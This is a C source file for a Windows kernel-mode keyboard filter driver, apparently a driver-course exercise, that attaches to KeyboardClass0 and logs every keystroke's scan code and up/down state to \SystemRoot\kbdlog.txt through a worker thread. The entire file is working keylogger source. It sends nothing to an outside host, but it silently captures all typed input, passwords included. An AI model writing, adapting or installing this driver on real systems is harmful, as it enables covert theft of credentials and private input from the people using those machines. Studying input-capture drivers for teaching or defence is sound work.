/*
 * kbdlog.c -- keyboard filter that writes scan codes to \SystemRoot\kbdlog.txt
 *
 * Exercise 7 from the driver course: attach above KeyboardClass0, grab the
 * KEYBOARD_INPUT_DATA from completed reads and hand them to a worker thread
 * that does the file I/O at PASSIVE_LEVEL.
 *
 * For research / learning only. Run it in a VM.
 */
#include <ntddk.h>
#include <ntddkbd.h>
#include <ntstrsafe.h>

#define KL_TAG 'gLbK'

typedef struct _KL_EXTENSION {
    PDEVICE_OBJECT Lower;
} KL_EXTENSION, *PKL_EXTENSION;

typedef struct _KEY_RECORD {
    LIST_ENTRY Link;
    USHORT     MakeCode;
    USHORT     Flags;
} KEY_RECORD, *PKEY_RECORD;

DRIVER_INITIALIZE DriverEntry;
DRIVER_UNLOAD KlUnload;
DRIVER_DISPATCH KlPassThrough;
DRIVER_DISPATCH KlDispatchRead;
IO_COMPLETION_ROUTINE KlReadComplete;
KSTART_ROUTINE KlWriterThread;

static PDEVICE_OBJECT g_FilterDevice;
static HANDLE         g_LogFile;
static HANDLE         g_WriterThread;
static volatile LONG  g_StopWriter;
static volatile LONG  g_PendingReads;
static LIST_ENTRY     g_KeyQueue;
static KSPIN_LOCK     g_KeyQueueLock;
static KEVENT         g_KeyQueueEvent;

/* ---------------------------------------------------------------- */

NTSTATUS KlPassThrough(PDEVICE_OBJECT DeviceObject, PIRP Irp)
{
    PKL_EXTENSION ext = (PKL_EXTENSION)DeviceObject->DeviceExtension;

    IoSkipCurrentIrpStackLocation(Irp);
    return IoCallDriver(ext->Lower, Irp);
}

NTSTATUS KlReadComplete(PDEVICE_OBJECT DeviceObject, PIRP Irp, PVOID Context)
{
    UNREFERENCED_PARAMETER(DeviceObject);
    UNREFERENCED_PARAMETER(Context);

    if (NT_SUCCESS(Irp->IoStatus.Status)) {
        PKEYBOARD_INPUT_DATA keys = (PKEYBOARD_INPUT_DATA)Irp->AssociatedIrp.SystemBuffer;
        ULONG count = (ULONG)(Irp->IoStatus.Information / sizeof(KEYBOARD_INPUT_DATA));
        ULONG i;

        for (i = 0; i < count; i++) {
            PKEY_RECORD rec = (PKEY_RECORD)ExAllocatePool2(POOL_FLAG_NON_PAGED,
                                                           sizeof(KEY_RECORD), KL_TAG);
            if (rec == NULL) {
                break;
            }
            rec->MakeCode = keys[i].MakeCode;
            rec->Flags = keys[i].Flags;
            ExInterlockedInsertTailList(&g_KeyQueue, &rec->Link, &g_KeyQueueLock);
        }
        if (count != 0) {
            KeSetEvent(&g_KeyQueueEvent, IO_NO_INCREMENT, FALSE);
        }
    }

    if (Irp->PendingReturned) {
        IoMarkIrpPending(Irp);
    }
    InterlockedDecrement(&g_PendingReads);
    return Irp->IoStatus.Status;
}

NTSTATUS KlDispatchRead(PDEVICE_OBJECT DeviceObject, PIRP Irp)
{
    PKL_EXTENSION ext = (PKL_EXTENSION)DeviceObject->DeviceExtension;

    IoCopyCurrentIrpStackLocationToNext(Irp);
    IoSetCompletionRoutine(Irp, KlReadComplete, NULL, TRUE, TRUE, TRUE);
    InterlockedIncrement(&g_PendingReads);
    return IoCallDriver(ext->Lower, Irp);
}

/* ---------------------------------------------------------------- */

static VOID KlFlushQueue(VOID)
{
    PLIST_ENTRY entry;
    IO_STATUS_BLOCK iosb;
    CHAR line[32];
    size_t len;

    while ((entry = ExInterlockedRemoveHeadList(&g_KeyQueue, &g_KeyQueueLock)) != NULL) {
        PKEY_RECORD rec = CONTAINING_RECORD(entry, KEY_RECORD, Link);

        if (NT_SUCCESS(RtlStringCbPrintfA(line, sizeof(line), "%04X %s\r\n", rec->MakeCode,
                                          (rec->Flags & KEY_BREAK) ? "up" : "down")) &&
            NT_SUCCESS(RtlStringCbLengthA(line, sizeof(line), &len)) &&
            g_LogFile != NULL) {
            ZwWriteFile(g_LogFile, NULL, NULL, NULL, &iosb, line, (ULONG)len, NULL, NULL);
        }
        ExFreePoolWithTag(rec, KL_TAG);
    }
}

VOID KlWriterThread(PVOID Context)
{
    LARGE_INTEGER timeout;

    UNREFERENCED_PARAMETER(Context);
    timeout.QuadPart = -10LL * 1000 * 1000;   /* 1 s */

    while (!g_StopWriter) {
        KeWaitForSingleObject(&g_KeyQueueEvent, Executive, KernelMode, FALSE, &timeout);
        KlFlushQueue();
    }
    KlFlushQueue();
    PsTerminateSystemThread(STATUS_SUCCESS);
}

/* ---------------------------------------------------------------- */

static NTSTATUS KlAttachToKeyboard(PDRIVER_OBJECT DriverObject)
{
    UNICODE_STRING name = RTL_CONSTANT_STRING(L"\\Device\\KeyboardClass0");
    PFILE_OBJECT fileObject;
    PDEVICE_OBJECT target;
    PDEVICE_OBJECT filter;
    PKL_EXTENSION ext;
    NTSTATUS status;

    status = IoGetDeviceObjectPointer(&name, FILE_READ_ATTRIBUTES, &fileObject, &target);
    if (NT_SUCCESS(status)) {
        status = IoCreateDevice(DriverObject, sizeof(KL_EXTENSION), NULL, FILE_DEVICE_KEYBOARD,
                                0, FALSE, &filter);
        if (NT_SUCCESS(status)) {
            ext = (PKL_EXTENSION)filter->DeviceExtension;
            filter->Flags |= target->Flags & (DO_BUFFERED_IO | DO_DIRECT_IO | DO_POWER_PAGABLE);

            status = IoAttachDeviceToDeviceStackSafe(filter, target, &ext->Lower);
            if (NT_SUCCESS(status)) {
                filter->DeviceType = ext->Lower->DeviceType;
                filter->Characteristics = ext->Lower->Characteristics;
                filter->Flags &= ~DO_DEVICE_INITIALIZING;
                g_FilterDevice = filter;
            } else {
                IoDeleteDevice(filter);
            }
        }
        ObDereferenceObject(fileObject);
    }
    return status;
}

VOID KlUnload(PDRIVER_OBJECT DriverObject)
{
    PKL_EXTENSION ext = (PKL_EXTENSION)g_FilterDevice->DeviceExtension;
    LARGE_INTEGER delay;

    UNREFERENCED_PARAMETER(DriverObject);

    IoDetachDevice(ext->Lower);

    /* one read is always parked in kbdclass; it finishes on the next key press */
    delay.QuadPart = -10LL * 1000 * 100;  /* 100 ms */
    while (g_PendingReads > 0) {
        KeDelayExecutionThread(KernelMode, FALSE, &delay);
    }
    IoDeleteDevice(g_FilterDevice);

    InterlockedExchange(&g_StopWriter, 1);
    KeSetEvent(&g_KeyQueueEvent, IO_NO_INCREMENT, FALSE);
    ZwWaitForSingleObject(g_WriterThread, FALSE, NULL);
    ZwClose(g_WriterThread);

    ZwClose(g_LogFile);
    KdPrint(("KbdLog: unloaded\n"));
}

NTSTATUS DriverEntry(PDRIVER_OBJECT DriverObject, PUNICODE_STRING RegistryPath)
{
    UNICODE_STRING logName = RTL_CONSTANT_STRING(L"\\SystemRoot\\kbdlog.txt");
    OBJECT_ATTRIBUTES oa;
    IO_STATUS_BLOCK iosb;
    NTSTATUS status;
    ULONG i;

    UNREFERENCED_PARAMETER(RegistryPath);

    for (i = 0; i <= IRP_MJ_MAXIMUM_FUNCTION; i++) {
        DriverObject->MajorFunction[i] = KlPassThrough;
    }
    DriverObject->MajorFunction[IRP_MJ_READ] = KlDispatchRead;

    InitializeListHead(&g_KeyQueue);
    KeInitializeSpinLock(&g_KeyQueueLock);
    KeInitializeEvent(&g_KeyQueueEvent, SynchronizationEvent, FALSE);

    InitializeObjectAttributes(&oa, &logName, OBJ_CASE_INSENSITIVE | OBJ_KERNEL_HANDLE, NULL, NULL);
    status = ZwCreateFile(&g_LogFile, FILE_APPEND_DATA | SYNCHRONIZE, &oa, &iosb, NULL,
                          FILE_ATTRIBUTE_NORMAL, FILE_SHARE_READ, FILE_OPEN_IF,
                          FILE_SYNCHRONOUS_IO_NONALERT | FILE_NON_DIRECTORY_FILE, NULL, 0);
    if (NT_SUCCESS(status)) {
        InitializeObjectAttributes(&oa, NULL, OBJ_KERNEL_HANDLE, NULL, NULL);
        status = PsCreateSystemThread(&g_WriterThread, THREAD_ALL_ACCESS, &oa, NULL, NULL,
                                      KlWriterThread, NULL);
        if (NT_SUCCESS(status)) {
            status = KlAttachToKeyboard(DriverObject);
            if (NT_SUCCESS(status)) {
                DriverObject->DriverUnload = KlUnload;
                KdPrint(("KbdLog: attached, logging to %wZ\n", &logName));
            } else {
                KdPrint(("KbdLog: attach failed 0x%08X\n", status));
                ZwClose(g_LogFile);
                g_LogFile = NULL;
                return status;
            }
        } else {
            KdPrint(("KbdLog: PsCreateSystemThread failed 0x%08X\n", status));
            return status;
        }
    } else {
        KdPrint(("KbdLog: cannot open log 0x%08X\n", status));
    }

    return status;
}
